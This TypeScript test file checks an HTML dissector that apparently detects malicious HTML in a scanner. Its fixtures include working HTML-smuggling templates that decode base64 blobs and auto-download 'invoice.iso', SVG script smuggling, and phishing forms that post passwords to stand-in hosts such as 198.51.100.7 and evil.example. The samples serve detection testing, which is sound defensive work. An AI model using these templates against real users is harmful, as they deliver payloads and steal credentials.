import assert from 'node:assert/strict';
import { Buffer } from 'node:buffer';
import { randomBytes } from 'node:crypto';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { BudgetExceededError, createExpansionBudget } from '../../dissect/budget.js';
import type { ExpansionBudget, ExpansionLimits } from '../../dissect/budget.js';
import type { DissectResult } from '../../dissect/dissector.js';
import { createHtmlDissector } from './index.js';

const LIMITS: ExpansionLimits = { maxTotalBytes: 4 << 20, maxEntries: 50, maxDepth: 5, maxRatio: 1000, maxMemberBytes: 4 << 20 };
const PIXEL = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';

const NEWSLETTER = `<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Spring news</title><style>td { font-family: Arial; }</style></head>
<body><table width="600"><tr><td><img src="data:image/png;base64,${PIXEL}" alt=""><h1>Spring news</h1>
<p>Our shop opens on Monday. <a href="https://shop.example.com/news?id=42&amp;utm=mail">Read more</a></p>
<p><a href="https://shop.example.com/unsubscribe">Unsubscribe</a></p></td></tr></table></body></html>`;

function smugglingPage(payload: Buffer): string {
  return `<html><body><p>Your document is downloading...</p><script>
var b64 = "${payload.toString('base64')}";
var bin = atob(b64); var bytes = new Uint8Array(bin.length);
for (var i = 0; i < bin.length; i++) { bytes[i] = bin.charCodeAt(i); }
var blob = new Blob([bytes], { type: 'application/octet-stream' });
var a = document.createElement('a'); a.href = URL.createObjectURL(blob); a.download = 'invoice.iso'; a.click();
</script></body></html>`;
}

async function dissect(html: string | Buffer, budget: ExpansionBudget = createExpansionBudget(LIMITS)): Promise<DissectResult> {
  const content = Buffer.isBuffer(html) ? html : Buffer.from(html, 'utf8');
  return createHtmlDissector().dissect({ path: '1.2', content }, { budget, passwords: [] });
}

const symbols = (result: DissectResult): string[] => result.findings.map((f) => f.symbol).sort();

describe('html dissector', () => {
  it('accepts HTML and SVG by content, not plain text or other detected types', () => {
    const d = createHtmlDissector();
    assert.equal(d.accepts({ path: '1', content: Buffer.from(NEWSLETTER) }), true);
    assert.equal(d.accepts({ path: '1', content: Buffer.from('\r\n  <div>Hi</div>') }), true);
    assert.equal(d.accepts({ path: '1', content: Buffer.from('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>') }), true);
    assert.equal(d.accepts({ path: '1', content: Buffer.from('Dear team, see you <tomorrow>.') }), false);
    assert.equal(d.accepts({ path: '1', content: Buffer.from('<html>'), detected: { type: 'application/pdf', extension: 'pdf' } }), false);
  });

  it('reports nothing for an ordinary newsletter', async () => {
    const result = await dissect(NEWSLETTER);
    assert.deepEqual(result.findings, []);
    assert.deepEqual(result.members, []);
  });

  it('detects HTML smuggling and yields the smuggled file', async () => {
    const payload = randomBytes(80 * 1024);
    const result = await dissect(smugglingPage(payload));
    assert.deepEqual(symbols(result), ['HTML_SMUGGLING']);
    assert.match(result.findings[0]?.detail ?? '', /Blob/);
    assert.equal(result.members.length, 1);
    assert.deepEqual(Buffer.from(result.members[0]?.content ?? new Uint8Array()), payload);
  });

  it('detects a small payload split into concatenated literals', async () => {
    const b64 = randomBytes(3000).toString('base64');
    const pieces = b64.match(/.{1,200}/g)?.map((p) => `'${p}'`).join(' +\n ') ?? '';
    const html = `<html><script>var d = ${pieces}; var blob = new Blob([Uint8Array.from(atob(d), c => c.charCodeAt(0))]); window.navigator.msSaveOrOpenBlob(blob, 'a.js');</script></html>`;
    const result = await dissect(html);
    assert.deepEqual(symbols(result), ['HTML_SMUGGLING']);
    assert.deepEqual(Buffer.from(result.members[0]?.content ?? new Uint8Array()).toString('base64'), b64);
  });

  it('detects a download link to a data: URL without script', async () => {
    const zip = Buffer.concat([Buffer.from('PK\x03\x04'), randomBytes(200)]);
    const html = `<html><body><a href="data:application/octet-stream;base64,${zip.toString('base64')}" download="scan.zip">Open</a></body></html>`;
    const result = await dissect(html);
    assert.deepEqual(symbols(result), ['HTML_DATA_URI', 'HTML_SMUGGLING']);
    assert.deepEqual(Buffer.from(result.members[0]?.content ?? new Uint8Array()), zip);
  });

  it('does not call a page with a large image and no save logic smuggling', async () => {
    const html = `<html><body><img src="data:image/jpeg;base64,${randomBytes(100 * 1024).toString('base64')}"><script>var x = 1;</script></body></html>`;
    assert.deepEqual(symbols(await dissect(html)), []);
  });

  it('flags a credential form posting off-site', async () => {
    const html = `<html><body><form method="post" action="https://198.51.100.7/collect.php"><input type="email" name="u"><input type="PASSWORD" name="p"><button>Sign in</button></form></body></html>`;
    const result = await dissect(html);
    assert.deepEqual(symbols(result), ['HTML_CREDENTIAL_FORM']);
    assert.match(result.findings[0]?.detail ?? '', /off-site to "https:\/\/198\.51\.100\.7\/collect\.php"/);
  });

  it('decodes a page written out by obfuscated script, whose own form is then found', async () => {
    const inner = `<form action="h&#116;tps://evil.example/p"><input type=password name=p></form>`.padEnd(400, ' ');
    const html = `<html><script>document.write(atob("${Buffer.from(inner).toString('base64')}"));</script></html>`;
    const result = await dissect(html);
    assert.deepEqual(symbols(result), ['HTML_SCRIPT_OBFUSCATION']);
    const decoded = result.members[0]?.content ?? new Uint8Array();
    assert.equal(Buffer.from(decoded).toString(), inner);
    assert.deepEqual(symbols(await dissect(Buffer.from(decoded))), ['HTML_CREDENTIAL_FORM']);
  });

  it('reads UTF-16 pages and password fields created by script', async () => {
    const page = '<html><body><input id="p"><script>document.getElementById("p").setAttribute("type", "password");</script></body></html>';
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(page, 'utf16le')]);
    assert.equal(createHtmlDissector().accepts({ path: '1', content: utf16 }), true);
    assert.deepEqual(symbols(await dissect(utf16)), ['HTML_CREDENTIAL_FORM']);
  });

  it('reports redirects and SVG script smuggling', async () => {
    assert.deepEqual(symbols(await dissect('<html><head><meta http-equiv="Refresh" content="0; URL=https://198.51.100.7/"></head></html>')), ['HTML_REDIRECT']);
    const svg = `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[ var z = "${randomBytes(70000).toString('base64')}"; var u = URL.createObjectURL(new Blob([atob(z)])); window.location.href = u; ]]></script></svg>`;
    assert.deepEqual(symbols(await dissect(svg)), ['HTML_REDIRECT', 'HTML_SMUGGLING']);
  });

  it('charges decoded payloads to the budget', async () => {
    const budget = createExpansionBudget({ ...LIMITS, maxTotalBytes: 10_000 });
    await assert.rejects(dissect(smugglingPage(randomBytes(80 * 1024)), budget), BudgetExceededError);
  });

  it('never throws (except for the budget) and finishes quickly on random and mutated markup', async () => {
    const seeds = [NEWSLETTER, smugglingPage(randomBytes(2000)), '<form action=x><input type=password></form><a href="data:text/html,%3Cb%3E" download>'];
    const tokens = fc.constantFrom('<', '>', '</', '<script>', '</script>', '<form', '<input type=password', '<a href="data:', ';base64,', 'QUFB', '"', "'", '=', ' ', '<!--', '-->', 'atob(', 'Blob', '&#x41;', '&');
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(
          fc.string({ maxLength: 300, unit: tokens }).map((s) => Buffer.from(`<html>${s}`)),
          fc.uint8Array({ maxLength: 2048 }).map((b) => Buffer.concat([Buffer.from('<html>'), b])),
          fc.tuple(fc.constantFrom(...seeds), fc.array(fc.tuple(fc.nat(), fc.integer({ min: 0, max: 255 })), { maxLength: 20 })).map(([seed, edits]) => {
            const copy = Buffer.from(seed);
            for (const [at, value] of edits) copy[at % copy.length] = value;
            return copy;
          }),
        ),
        async (content) => {
          const budget = createExpansionBudget({ ...LIMITS, maxTotalBytes: 8192 });
          const started = performance.now();
          try {
            await dissect(content, budget);
          } catch (err) {
            assert.ok(err instanceof BudgetExceededError, String(err));
          }
          assert.ok(budget.usedBytes <= 8192);
          assert.ok(performance.now() - started < 1000);
        },
      ),
      { numRuns: 300 },
    );
  });
});
